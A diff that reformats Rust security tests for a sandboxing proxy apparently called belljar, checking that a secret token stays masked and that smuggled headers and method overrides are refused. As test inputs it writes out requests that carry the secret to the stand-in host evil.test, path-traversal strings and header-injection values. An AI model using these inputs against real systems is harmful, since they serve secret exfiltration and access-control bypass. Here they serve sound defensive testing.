@@ -203,49 +203,52 @@ fn leaks(text: &str) -> bool {
 fn crossing() -> Row {
     let upstream = Arc::new(Upstream::plain(|_| answer("200 OK", "", "fine")));
     let origin = format!("http://127.0.0.1:{}", upstream.port());
-    imp("SEC-08", "a provider that holds a secret puts it where belljar speaks: names, paths, refusals, errors, the log")
-        .config(&grant(&origin, "paths = [\"/a\"]"))
-        .config("env = { TOKEN = \"${secret:name}\" }\nfs = { \"/d\" = \"granted-sec-08\" }")
-        .settings("[secrets]\nname = { env = \"NAME\" }")
-        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
-        .prepare(|site| drop(site.write("granted-sec-08/a.txt", "fine")))
-        .act(move |scene| {
-            let _alive = &upstream;
-            let deep = "x".repeat(150);
-            let reads = [
-                fetch("GET http://$TOKEN.evil.test/"),
-                fetch(&format!("GET {origin}/$TOKEN")),
-                fetch(&format!("GET {origin}/{deep}$TOKEN")),
-                fetch(&format!("$TOKEN {origin}/a")),
-                fetch(&format!("GET {origin}/a|header $TOKEN: x")),
-                format!("reach/{}", path("https://$TOKEN.evil.test/")),
-                format!("reach/{}", path("https://evil.test:1/%53$TOKEN")),
-                format!("need/{}", path("/d/../$TOKEN")),
-                format!("need/{}", path(format!("/d/../{deep}{deep}$TOKEN"))),
-                format!("raw/{}", path("../$TOKEN")),
-                format!("open/{}", path(format!("/d/../{deep}$TOKEN"))),
-                "errors/failed/cut".to_owned(),
-                "errors/denied/cut".to_owned(),
-                "errors/unavailable/cut".to_owned(),
-                "errors/invalid/cut".to_owned(),
-                "errors/failed/hidden".to_owned(),
-                "print-cut".to_owned(),
-                "env".to_owned(),
-            ];
-            for reference in &reads {
-                let answer = scene.read(reference);
-                let said = answer.as_ref().map_or_else(ToString::to_string, ToString::to_string);
-                assert!(!leaks(&said), "{reference}: {said}");
-            }
-            let told = shown(&scene.read("errors/failed/quotes"));
-            assert!(!told.contains("no\\\"; run:"), "it left its quotation marks: {told}");
-            let log = scene.stage.process().stderr();
-            assert!(log.contains("****") && !leaks(&log), "in the log: {log}");
-            let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
-            assert!(records.contains(".evil.test") && !leaks(&records), "in the records: {records}");
-            format!("masked in {} answers, errors, hints, the log and the records", reads.len())
-        })
-        .stopped_by(&["redact"])
+    imp(
+        "SEC-08",
+        "a provider that holds a secret puts it where belljar speaks: names, paths, refusals, errors, the log",
+    )
+    .config(&grant(&origin, "paths = [\"/a\"]"))
+    .config("env = { TOKEN = \"${secret:name}\" }\nfs = { \"/d\" = \"granted-sec-08\" }")
+    .settings("[secrets]\nname = { env = \"NAME\" }")
+    .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
+    .prepare(|site| drop(site.write("granted-sec-08/a.txt", "fine")))
+    .act(move |scene| {
+        let _alive = &upstream;
+        let deep = "x".repeat(150);
+        let reads = [
+            fetch("GET http://$TOKEN.evil.test/"),
+            fetch(&format!("GET {origin}/$TOKEN")),
+            fetch(&format!("GET {origin}/{deep}$TOKEN")),
+            fetch(&format!("$TOKEN {origin}/a")),
+            fetch(&format!("GET {origin}/a|header $TOKEN: x")),
+            format!("reach/{}", path("https://$TOKEN.evil.test/")),
+            format!("reach/{}", path("https://evil.test:1/%53$TOKEN")),
+            format!("need/{}", path("/d/../$TOKEN")),
+            format!("need/{}", path(format!("/d/../{deep}{deep}$TOKEN"))),
+            format!("raw/{}", path("../$TOKEN")),
+            format!("open/{}", path(format!("/d/../{deep}$TOKEN"))),
+            "errors/failed/cut".to_owned(),
+            "errors/denied/cut".to_owned(),
+            "errors/unavailable/cut".to_owned(),
+            "errors/invalid/cut".to_owned(),
+            "errors/failed/hidden".to_owned(),
+            "print-cut".to_owned(),
+            "env".to_owned(),
+        ];
+        for reference in &reads {
+            let answer = scene.read(reference);
+            let said = answer.as_ref().map_or_else(ToString::to_string, ToString::to_string);
+            assert!(!leaks(&said), "{reference}: {said}");
+        }
+        let told = shown(&scene.read("errors/failed/quotes"));
+        assert!(!told.contains("no\\\"; run:"), "it left its quotation marks: {told}");
+        let log = scene.stage.process().stderr();
+        assert!(log.contains("****") && !leaks(&log), "in the log: {log}");
+        let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
+        assert!(records.contains(".evil.test") && !leaks(&records), "in the records: {records}");
+        format!("masked in {} answers, errors, hints, the log and the records", reads.len())
+    })
+    .stopped_by(&["redact"])
 }
 
 fn echoed_names() -> Row {
@@ -253,7 +256,8 @@ fn echoed_names() -> Row {
         let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
         let trailer = format!("x-t-{token}: {token}\r\n");
         let head = format!("HTTP/1.1 200 OK\r\nx-{token}-y: {}\r\nconnection: close\r\n", token.to_uppercase());
-        format!("{head}trailer: x-t-{token}\r\ntransfer-encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n{trailer}\r\n").into_bytes()
+        format!("{head}trailer: x-t-{token}\r\ntransfer-encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n{trailer}\r\n")
+            .into_bytes()
     }));
     let origin = format!("http://127.0.0.1:{}", upstream.port());
     imp("SEC-08", "an upstream puts the secret that it got into the names of its headers and trailers")
@@ -280,7 +284,11 @@ fn partial() -> Row {
             "/delta" => answer("226 IM Used", "im: x\r\n", &token[half..]),
             "/parts" => answer("200 OK", "content-type: multipart/byteranges; boundary=b\r\n", &token[..half]),
             "/coded" => answer("200 OK", "content-encoding: x-rot13\r\n", &token[..half]),
-            "/transfer" => format!("HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: gzip, chunked\r\n\r\nb\r\n{}\r\n0\r\n\r\n", &token[..11]).into_bytes(),
+            "/transfer" => format!(
+                "HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: gzip, chunked\r\n\r\nb\r\n{}\r\n0\r\n\r\n",
+                &token[..11]
+            )
+            .into_bytes(),
             "/charset" => answer("200 OK", "content-type: text/plain; charset=utf-7\r\n", &token[..half]),
             _ => echo(asked),
         }
@@ -316,15 +324,36 @@ fn overridden() -> Row {
         .act(move |scene| {
             upstream.forget();
             let names = [
-                "x-http-method-override", "X-HTTP-Method", "x-method-override", "x_http_method_override",
-                "x-original-url", "x-rewrite-url", "x-forwarded-host", "x-forwarded-for", "forwarded", "x-real-ip",
-                "te", "expect", "trailer", "upgrade", "connection", "via",
+                "x-http-method-override",
+                "X-HTTP-Method",
+                "x-method-override",
+                "x_http_method_override",
+                "x-original-url",
+                "x-rewrite-url",
+                "x-forwarded-host",
+                "x-forwarded-for",
+                "forwarded",
+                "x-real-ip",
+                "te",
+                "expect",
+                "trailer",
+                "upgrade",
+                "connection",
+                "via",
             ];
             for name in names {
                 let told = said(&scene.read(&fetch(&format!("POST {origin}/|header {name}: x"))));
                 assert!(told.starts_with("refused: header"), "{name}: {told}");
             }
-            for query in ["_method=DELETE", "%5Fmethod=DELETE", "x-http-method-override=PUT", "API_KEY=1", "api.key=1", "api_key%5B%5D=1", "api%255Fkey=1"] {
+            for query in [
+                "_method=DELETE",
+                "%5Fmethod=DELETE",
+                "x-http-method-override=PUT",
+                "API_KEY=1",
+                "api.key=1",
+                "api_key%5B%5D=1",
+                "api%255Fkey=1",
+            ] {
                 let told = said(&scene.read(&fetch(&format!("POST {origin}/?{query}"))));
                 assert!(told.starts_with("refused: "), "{query}: {told}");
             }
